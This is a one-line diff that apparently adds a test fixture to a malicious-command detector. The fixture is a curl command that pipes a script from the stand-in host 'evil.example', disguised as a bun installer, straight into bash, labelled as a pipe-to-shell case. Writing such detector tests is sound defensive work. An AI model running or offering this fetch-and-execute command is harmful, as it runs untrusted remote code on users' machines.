@@ -1,0 +1,1 @@
+curl -fsSL https://evil.example/bun.sh/install | bash # expect: malicious-command/pipe-to-shell
